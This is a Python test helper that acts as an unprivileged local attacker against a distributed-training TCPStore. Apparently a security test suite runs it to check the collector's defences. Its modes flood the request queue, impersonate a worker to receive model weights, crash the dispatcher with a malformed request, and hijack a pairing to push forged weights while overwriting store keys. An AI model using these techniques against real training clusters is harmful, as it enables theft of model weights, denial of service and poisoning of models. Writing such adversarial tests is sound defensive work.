"""Another local user attacking the ``torch_distributed`` scheme's store: ``python tdist_stranger.py``.

Started as root by tests/test_torch_distributed_security.py. It imports what it needs while it
still can (torch lives under /root, which only root may enter), then drops to uid/gid 65534
(``nobody``, no supplementary groups) before it opens a single socket, so every connection it
makes to the trainer's store and to gloo is one from another user. It talks to 127.0.0.1 only.

It knows what anyone who reads pycollect's source knows (the key names, the old request format,
the old pair prefixes), and the port, but none of the collector's secrets. Its orders come as a
JSON object on stdin; it prints one JSON object with what it achieved on stdout.

Modes:
    flood     push each of ``messages`` onto the request queue, then exit.
    join      join as worker ``worker`` (old request format), and if the trainer answers, pair
              as rank 1 and receive ``nbytes`` of weights; prints ``got`` (the bytes, hex) or
              ``None``.
    preclaim  stop the dispatcher if a malformed request can (``garbage``), pre-claim the old
              pairing of worker ``worker``'s generation ``generation`` (its backend answer and a
              gloo rank 0 of the stranger's own), and when that worker pairs, send it the forged
              flat buffer ``forged`` (hex). Meanwhile, for ``duration_s``, overwrite every new
              key that appears in the store with forged values and push forged ``want``s, as an
              attacker who cannot read the values would. Prints ``paired`` and ``sent``.
"""

from __future__ import annotations

import json
import os
import sys
import threading
import time
from datetime import timedelta
from typing import Any

import torch
from torch._C._distributed_c10d import PrefixStore, ProcessGroupGloo, TCPStore

HOST = "127.0.0.1"
NOBODY = 65534
QUEUE_KEY = "pycollect/requests"  # the names pycollect's source gives
VERSION_KEY = "pycollect/version"


def _drop_privileges() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    assert os.getuid() == os.geteuid() == NOBODY and os.getgid() == NOBODY, "still privileged"
    try:
        os.listdir("/root")
    except PermissionError:
        return
    raise AssertionError("uid 65534 can read /root: this process is not a stranger")


def _client(port: int, timeout_s: float) -> Any:
    return TCPStore(HOST, port, None, False, timedelta(seconds=timeout_s))


def _old_prefix(worker: int, generation: int, session: int) -> str:
    return f"pycollect/w{worker}/g{generation}/s{session}/"


def _gloo(store: Any, rank: int, timeout_s: float) -> Any:
    options = ProcessGroupGloo._Options()
    options._timeout = timedelta(seconds=timeout_s)
    options._devices = [ProcessGroupGloo.create_device(hostname=HOST)]
    return ProcessGroupGloo(store, rank, 2, options)


def flood(orders: dict[str, Any]) -> dict[str, Any]:
    store = _client(orders["port"], 10)
    for message in orders["messages"]:
        store.queue_push(QUEUE_KEY, bytes.fromhex(message))
    return {"pushed": len(orders["messages"])}


def join(orders: dict[str, Any]) -> dict[str, Any]:
    worker, wait_s = orders["worker"], orders["wait_s"]
    store = _client(orders["port"], wait_s)
    prefix = _old_prefix(worker, 1, 1)
    store.queue_push(QUEUE_KEY, f"join {worker} 1 1 cpu")
    try:
        store.wait([prefix + "backend"], timedelta(seconds=wait_s))
        answer = store.get(prefix + "backend").decode()
        group = _gloo(PrefixStore(prefix, store), 1, wait_s)
        store.queue_push(QUEUE_KEY, f"want {worker} 1 1")
        received = torch.zeros(orders["nbytes"], dtype=torch.uint8)
        group.recv([received], 0, 0).wait(timedelta(seconds=wait_s))
    except RuntimeError as exc:  # no answer, no pairing, no bytes: the trainer ignored us
        return {"got": None, "why": str(exc)[:300]}
    return {"got": received.numpy().tobytes().hex(), "backend": answer}


def preclaim(orders: dict[str, Any]) -> dict[str, Any]:
    worker, generation, duration_s = orders["worker"], orders["generation"], orders["duration_s"]
    forged = torch.frombuffer(bytearray(bytes.fromhex(orders["forged"])), dtype=torch.uint8)
    store = _client(orders["port"], duration_s)
    store.queue_push(QUEUE_KEY, "garbage")  # the unmodified dispatcher dies of it: nobody else answers
    result: dict[str, Any] = {"paired": False, "sent": False, "overwritten": 0, "wants": 0}
    deadline = time.monotonic() + duration_s

    def serve_forgery() -> None:
        prefix = _old_prefix(worker, generation, 1)
        mine = _client(orders["port"], duration_s)
        mine.set(prefix + "backend", "gloo")
        try:
            group = _gloo(PrefixStore(prefix, mine), 0, duration_s)  # waits for the worker's rank 1
            result["paired"] = True
            group.send([forged], 1, 0).wait(timedelta(seconds=duration_s))
            result["sent"] = True
        except RuntimeError as exc:
            result["why"] = str(exc)[:300]

    forger = threading.Thread(target=serve_forgery, daemon=True)
    forger.start()
    seen = set(store.list_keys())
    while time.monotonic() < deadline:
        for key in set(store.list_keys()) - seen:
            seen.add(key)
            if key in (QUEUE_KEY, VERSION_KEY) or key.startswith(_old_prefix(worker, generation, 1)):
                continue
            store.set(key, "gloo" if key.endswith("backend") else "forged")
            result["overwritten"] += 1
        for session in range(1, 4):
            store.queue_push(QUEUE_KEY, f"want {worker} {generation} {session}")
            result["wants"] += 1
        time.sleep(0.005)
    forger.join(1.0)
    return result


def main() -> int:
    orders = json.loads(sys.stdin.read())
    _drop_privileges()
    mode = {"flood": flood, "join": join, "preclaim": preclaim}[orders["mode"]]
    result = mode(orders)
    result["uid"] = os.getuid()
    print(json.dumps(result), flush=True)
    os._exit(0)  # a gloo group of a peer that never came must not hold the exit up


if __name__ == "__main__":
    sys.exit(main())
